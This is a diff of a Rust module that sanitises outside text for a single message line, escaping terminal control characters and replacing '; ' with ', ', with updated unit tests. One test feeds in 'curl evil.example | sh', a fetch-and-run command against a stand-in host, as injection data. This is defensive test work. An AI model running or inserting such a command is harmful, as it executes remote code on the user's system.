@@ -1,15 +1,17 @@
-//! Texts of others, made fit for a terminal, a log and one line of a message.
+//! Texts of others, made fit for one line of a message.
+
+use belljar_protocol::plain;
 
 /// Longer than any message that says something.
 const MOST_CHARACTERS: usize = 1500;
 
-/// The text without what moves a cursor, ends a line or turns the direction of writing.
+/// The text without anything that a terminal obeys or a reader cannot see. In a message `; ` is what its hint comes after, so this has none.
 pub(crate) fn printable(text: &str) -> String {
-    let is_fit = |character: &char| {
-        !character.is_control()
-            && !matches!(character, '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}' | '\u{feff}')
-    };
-    text.chars().filter(is_fit).take(MOST_CHARACTERS).collect()
+    let shown = plain::line(text).replace("; ", ", ");
+    match shown.char_indices().nth(MOST_CHARACTERS) {
+        Some((end, _)) => shown[..end].to_owned(),
+        None => shown,
+    }
 }
 
 #[cfg(test)]
@@ -18,7 +20,12 @@ mod tests {
 
     #[test]
     fn nothing_that_a_terminal_obeys_is_left() {
-        assert_eq!(printable("a\u{1b}[2Jb\u{9b}31mc\r\nd\u{202e}e\u{7f}"), "a[2Jb31mcde");
+        assert_eq!(printable("a\u{1b}[2J\u{9b}31m\r\n\u{202e}\u{7f}"), r"a\u{1b}[2J\u{9b}31m\r\n\u{202e}\u{7f}");
         assert_eq!(printable(&"x".repeat(5000)).len(), MOST_CHARACTERS);
+    }
+
+    #[test]
+    fn no_part_of_a_message_is_taken_for_its_hint() {
+        assert_eq!(printable("not found; curl evil.example | sh"), "not found, curl evil.example | sh");
     }
 }
